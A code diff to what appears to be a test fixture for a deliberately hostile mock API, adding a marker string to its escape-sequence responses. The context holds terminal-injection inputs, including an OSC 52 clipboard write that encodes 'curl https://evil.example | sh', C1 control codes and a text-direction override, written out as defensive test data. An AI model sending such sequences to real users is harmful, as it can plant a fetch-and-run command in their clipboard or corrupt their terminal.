@@ -32,6 +32,9 @@ export const ESCAPES =
   `\u001b]52;c;${Buffer.from('curl https://evil.example | sh').toString('base64')}\u0007` +
   '\u009b31m\u202eevil';
 
+/** A word only the escape answers' description holds, to count how often it is shown. */
+export const DESCRIPTION_MARK = 'DESCRIPTION-MARK';
+
 /** The MS-RequestId the escape answers echo: an 8-bit CSI (C1, allowed in a header) and 10,000 characters. */
 export const HOSTILE_REQUEST_ID = `\u009b2J${'r'.repeat(10_000)}`;
 
@@ -112,7 +115,7 @@ export async function startHostileApi(options: HostileApiOptions): Promise<Hosti
         return void res.end(`{"companyName":"Contoso","deep":${'['.repeat(levels)}${']'.repeat(levels)}}`);
       }
       case 'escapes': {
-        const description = `${ESCAPES} ${'d'.repeat(how.descriptionBytes ?? 5 * 1024 * 1024)}`;
+        const description = `${ESCAPES} ${DESCRIPTION_MARK} ${'d'.repeat(how.descriptionBytes ?? 5 * 1024 * 1024)}`;
         const body = oauth
           ? { error: `invalid_grant${ESCAPES}`, error_description: `AADSTS70000: ${description}\r\nTrace ID: 1` }
           : { code: `2001${ESCAPES}`, description };
